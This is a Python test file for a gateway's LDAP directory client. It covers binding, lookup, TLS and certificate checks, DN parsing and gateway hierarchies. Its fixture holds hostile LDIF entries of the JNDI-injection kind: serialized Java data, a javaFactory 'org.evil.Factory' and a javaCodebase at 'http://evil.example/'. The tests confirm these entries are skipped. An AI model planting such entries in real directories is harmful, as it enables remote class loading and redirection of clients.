"""Channels in a real directory: bound, looked up, listed; and what is skipped there."""

import asyncio
import contextlib
import json
import socket
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

pytest.importorskip("ldap3", reason="needs the extra ldap: it is not installed (ldap3)")

from structlog.testing import capture_logs

from filters import Refused
from gateway.channels.directory import (
    Directory,
    DirectoryFailed,
    DirectoryOptions,
    container_of,
    is_child,
    parent_of,
)
from gateway.channels.naming import Naming
from mediation.grid_events import channel_reference, port_of
from mediation.model.messages import EndpointReference
from tests.rigs.certificates import Authority
from tests.rigs.consumers import Consumers
from tests.rigs.gateways import running
from tests.rigs.grid_events import handle, lease
from tests.rigs.programs import run
from tests.rigs.slapd import ADMIN, PASSWORD, Slapd, needs_slapd, slapd
from tests.rigs.waiting import until

needs_slapd()

OURS = "cn=event-channel,ou=extreme,ou=cs,o=iu"
PARENT = "cn=event-channel,ou=cs,o=iu"
TOP = "cn=event-channel,o=iu"
LOCATION = "https://gateway.example/soap"
HOSTILE = """
dn: cn=event-channel,ou=cs,o=iu
objectClass: applicationProcess
objectClass: javaNamingReference
objectClass: javaSerializedObject
cn: event-channel
javaClassName: soaprmi.port.Port
javaSerializedData:: rO0ABXA=
javaReferenceAddress: #0#soaprmiport#<Port><endpoint><location>http://evil.example/</location></endpoint></Port>

dn: cn=doubled,ou=cs,o=iu
objectClass: applicationProcess
objectClass: javaNamingReference
cn: doubled
javaClassName: soaprmi.port.Port
javaReferenceAddress: #0#soaprmiport##rO0ABXA=

dn: cn=factory,ou=cs,o=iu
objectClass: applicationProcess
objectClass: javaNamingReference
cn: factory
javaClassName: soaprmi.port.Port
javaFactory: org.evil.Factory
javaCodebase: http://evil.example/
javaReferenceAddress: #0#soaprmiport#<Port><endpoint><location>http://evil.example/</location></endpoint></Port>
"""


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority(tmp_path_factory.mktemp("authority"))


@pytest.fixture(scope="module")
def server(authority: Authority) -> Iterator[Slapd]:
    certificate, key = authority.issue("127.0.0.1")
    with slapd(HOSTILE, tls=(certificate, key, authority.certificate)) as running_server:
        yield running_server


def options(server: Slapd, authority: Authority, **changes: object) -> DirectoryOptions:
    given: dict[str, object] = {"ca": authority.certificate, "user": ADMIN, "password": PASSWORD}
    given |= {"url": server.url} | changes
    return DirectoryOptions(**given)  # type: ignore[arg-type]


async def test_bound_and_looked_up(server: Slapd, authority: Authority) -> None:
    directory, reference = Directory(options(server, authority)), channel_reference(LOCATION)
    assert await directory.lookup(TOP) is None
    assert await directory.bind(TOP, reference) is True
    assert await directory.bind(TOP, reference) is False
    found = await directory.lookup(TOP)
    assert found is not None and port_of(found) == port_of(reference)
    moved = channel_reference("https://elsewhere.example/soap")
    assert await directory.bind(TOP, moved) is False
    everybody = Directory(options(server, authority, user=None, password=""))
    found = await everybody.lookup(TOP)
    assert found is not None and port_of(found) == port_of(moved)
    with pytest.raises(DirectoryFailed, match="strong"):
        await everybody.bind(TOP, reference)


async def test_hostile_entries_are_skipped(server: Slapd, authority: Authority) -> None:
    directory = Directory(options(server, authority))
    with pytest.raises(Refused, match="nobody may follow"):
        await directory.lookup(PARENT)
    found = {one.name: one for one in await directory.tree("ou=cs,o=iu")}
    assert found.keys() == {PARENT, "cn=doubled,ou=cs,o=iu", "cn=factory,ou=cs,o=iu"}
    assert all(one.reference is None and one.why_not for one in found.values())


async def test_over_tls_from_the_beginning(server: Slapd, authority: Authority) -> None:
    url = f"ldaps://127.0.0.1:{server.secure_port}"
    assert await Directory(options(server, authority, url=url)).lookup(OURS) is None


async def test_certificates_are_checked(
    server: Slapd, authority: Authority, tmp_path: Path
) -> None:
    other = Authority(tmp_path, "other")
    secure = f"ldaps://127.0.0.1:{server.secure_port}"
    for url in (server.url, secure):
        with pytest.raises(DirectoryFailed):
            await Directory(options(server, authority, url=url, ca=other.certificate)).lookup(OURS)
    named = secure.replace("127.0.0.1", "localhost")  # The certificate is of the address.
    with pytest.raises(DirectoryFailed):
        await Directory(options(server, authority, url=named)).lookup(OURS)


async def test_failures_are_told(server: Slapd, authority: Authority) -> None:
    reference = channel_reference(LOCATION)
    with pytest.raises(DirectoryFailed, match="user"):
        await Directory(options(server, authority, password="wrong")).lookup(OURS)
    with pytest.raises(DirectoryFailed, match=r"password_file: .* cannot be read"):
        await Directory(options(server, authority, password_file=Path("/none"))).lookup(OURS)
    with pytest.raises(DirectoryFailed, match="noSuchObject"):
        await Directory(options(server, authority)).bind("cn=x,ou=nobody,o=iu", reference)


async def test_a_directory_that_says_nothing_is_given_up() -> None:
    with socket.create_server(("127.0.0.1", 0)) as silent:
        url = f"ldap://127.0.0.1:{silent.getsockname()[1]}"
        directory = Directory(DirectoryOptions(url, start_tls=False), step=30.0, seconds=0.3)
        async with asyncio.timeout(20):
            with pytest.raises(DirectoryFailed, match="no answer in time"):
                await directory.lookup(OURS)
        # The thread has ended, too, long before its step: the loop waits for it.
        async with asyncio.timeout(20):
            await asyncio.get_running_loop().shutdown_default_executor()


@pytest.mark.parametrize(
    ("name", "parent"),
    [
        (OURS, PARENT),
        (PARENT, TOP),
        (TOP, None),
        ("cn=a\\,b,ou=c,o=d", "cn=a\\,b,o=d"),
        ("cn=a+uid=b,ou=c,o=d", "cn=a+uid=b,o=d"),
    ],
)
def test_the_parent_is_one_level_higher(name: str, parent: str | None) -> None:
    assert parent_of(name) == parent


@pytest.mark.parametrize("name", ["", "x", "cn=alone", "cn=,=", "http://a"])
def test_names_of_nothing(name: str) -> None:
    with pytest.raises(Refused):
        parent_of(name)


async def test_a_directory_that_is_away_is_asked_again(authority: Authority) -> None:
    with slapd(started=False) as late:
        directory = Directory(DirectoryOptions(late.url, False, None, ADMIN, PASSWORD))
        parents: list[Sequence[EndpointReference]] = []
        naming = Naming(
            directory, PARENT, channel_reference(LOCATION),
            interval=0.1, found=parents.append, first_retry=0.05,
        )  # fmt: skip
        working = asyncio.create_task(naming.run())
        try:
            await until(lambda: naming.outcomes["failed"] > 0)
            late.start()
            await until(lambda: naming.outcomes["bound"] > 0 and bool(parents))
            assert not parents[-1]
            token = "desk-5-9f86d081884c7d65"
            above = channel_reference(f"https://above.example/relay/{token}")
            with capture_logs() as logs:
                await directory.bind(TOP, above)
                await until(lambda: bool(parents[-1]))
            [told] = [one for one in logs if one["event"] == "directory.parent"]
            assert token not in str(told)
            assert naming.parent is not None and port_of(naming.parent) == port_of(above)
        finally:
            working.cancel()


async def test_a_password_in_a_file_counts_as_it_is_now(
    server: Slapd, authority: Authority, tmp_path: Path
) -> None:
    secret = tmp_path / "password"
    secret.write_text("former\n")
    directory = Directory(options(server, authority, password="", password_file=secret))
    with pytest.raises(DirectoryFailed, match="user"):
        await directory.lookup(OURS)
    secret.write_text(f"{PASSWORD}\n")
    assert await directory.bind(OURS, channel_reference(LOCATION)) in (True, False)


async def test_a_gateway_binds_itself(server: Slapd, authority: Authority, tmp_path: Path) -> None:
    secret = tmp_path / "password"
    secret.write_text(f"{PASSWORD}\n")
    asked = {
        "url": server.url, "name": OURS, "user": ADMIN, "password_file": secret,
        "ca": authority.certificate,
    }  # fmt: skip
    directory = Directory(options(server, authority))
    async with running(tmp_path, directory=asked, public_url="https://own.example") as gateway:
        naming = gateway.gateway.naming
        assert naming is not None
        await gateway.until(lambda: naming.outcomes["bound"] > 0)
        # The parent is hostile: it is skipped, and that is a failure that is told.
        await gateway.until(lambda: naming.outcomes["failed"] > 0)
        found = await directory.lookup(OURS)
        assert found is not None and found.address == "https://own.example/soap"
        assert naming.parent is None


async def test_a_hierarchy_of_three(server: Slapd, authority: Authority, tmp_path: Path) -> None:
    """Each is subscribed at the one above it, which it finds by name; so events come down."""
    names = ("cn=chain,o=iu", "cn=chain,ou=cs,o=iu", "cn=chain,ou=extreme,ou=cs,o=iu")
    asked = {
        "url": server.url, "user": ADMIN, "password": PASSWORD, "ca": authority.certificate,
        "interval": 0.2, "subscribe": True,
    }  # fmt: skip
    async with asyncio.timeout(50), Consumers() as consumers, contextlib.AsyncExitStack() as stack:
        gateways = [
            await stack.enter_async_context(
                running(tmp_path / str(number), directory={**asked, "name": name})
            )
            for number, name in enumerate(names)
        ]
        links = [one.gateway.links for one in gateways]
        await until(
            lambda: all(
                found and found[0].state == "live" for found in (one.links for one in links[1:])
            )
        )
        assert not links[0].links
        listener = consumers.at("/bottom")
        port = f"<endpoint><location>{listener.url}</location></endpoint>"
        assert (await gateways[2].post(lease(port=port))).status == 200
        for number in "12":
            event = handle(f"<eventType>a</eventType><seqNo>{number}</seqNo>")
            assert (await gateways[0].post(event)).status == 200
        await listener.have(2)
        for one in gateways:
            await one.quiet()
        assert listener.count == 2
        (link,) = links[2].links
        assert (link.source.made_by, link.source.url) == ("directory", f"{gateways[1].url}/soap")


@pytest.mark.parametrize("direction", ["up", "both"])
async def test_events_go_up(
    server: Slapd, authority: Authority, tmp_path: Path, direction: str
) -> None:
    """Sensors are below, and who watches is above: each is subscribed at those below it; with both
    directions nothing comes twice."""
    own = f"cn=rise-{direction}"
    names = (f"{own},o=iu", f"{own},ou=cs,o=iu", f"{own},ou=extreme,ou=cs,o=iu")
    asked = {
        "url": server.url, "user": ADMIN, "password": PASSWORD, "ca": authority.certificate,
        "interval": 0.2, "subscribe": True, "direction": direction,
    }  # fmt: skip
    async with asyncio.timeout(50), Consumers() as consumers, contextlib.AsyncExitStack() as stack:
        gateways = [
            await stack.enter_async_context(
                running(tmp_path / str(number), directory={**asked, "name": name})
            )
            for number, name in enumerate(names)
        ]
        links = [one.gateway.links for one in gateways]
        number = [1, 1, 0] if direction == "up" else [1, 2, 1]
        await until(
            lambda: all(
                [each.state for each in one.links] == ["live"] * many
                for one, many in zip(links, number, strict=True)
            )
        )
        listener = consumers.at(f"/top-{direction}")
        port = f"<endpoint><location>{listener.url}</location></endpoint>"
        assert (await gateways[0].post(lease(port=port))).status == 200
        for count in "12":
            event = handle(f"<eventType>a</eventType><seqNo>{count}</seqNo>")
            assert (await gateways[2].post(event)).status == 200
        await listener.have(2)
        for gateway in gateways:
            await gateway.quiet()
        assert listener.count == 2
        (link,) = links[0].links
        assert (link.source.made_by, link.source.url) == ("directory", f"{gateways[1].url}/soap")


@pytest.mark.parametrize(
    ("name", "above", "is_one"),
    [
        (OURS, PARENT, True),
        ("CN=Event-Channel, OU=extreme,ou=CS,o=iu", PARENT, True),
        (PARENT, PARENT, False),
        (OURS, TOP, False),
        ("cn=other,ou=extreme,ou=cs,o=iu", PARENT, False),
        ("cn=event-channel,ou=extreme,ou=ee,o=iu", PARENT, False),
        ("no name", PARENT, False),
    ],
)
def test_a_child_is_one_level_lower(name: str, above: str, is_one: bool) -> None:
    assert is_child(name, above) is is_one
    assert container_of(PARENT) == "ou=cs,o=iu"


@pytest.mark.slow
def test_the_command(server: Slapd, authority: Authority, tmp_path: Path) -> None:
    name = "cn=by-hand,ou=extreme,ou=cs,o=iu"
    (tmp_path / "dragoman.toml").write_text(
        f'[directory]\nurl = "{server.url}"\nname = "{name}"\nuser = "{ADMIN}"\n'
        f'password = "{PASSWORD}"\nca = "{authority.certificate}"\n'
    )
    unknown = run("directory", "bind", cwd=tmp_path)
    assert unknown.returncode == 1
    assert "set public_url" in unknown.stderr
    bound = run("directory", "bind", "--location", LOCATION, cwd=tmp_path)
    assert (bound.returncode, bound.stdout) == (0, f"made {name}: {LOCATION}\n"), bound.stderr
    none = run("directory", "lookup", cwd=tmp_path)
    assert (none.returncode, "no channel of that name" in none.stderr) == (1, True)
    looked = run("directory", "lookup", name, "--output", "json", cwd=tmp_path)
    assert json.loads(looked.stdout)["location"] == LOCATION
    tree = run("directory", "tree", cwd=tmp_path)
    assert f"{name}  {LOCATION}\n" in tree.stdout
    assert "cn=doubled,ou=cs,o=iu  skipped: " in tree.stdout
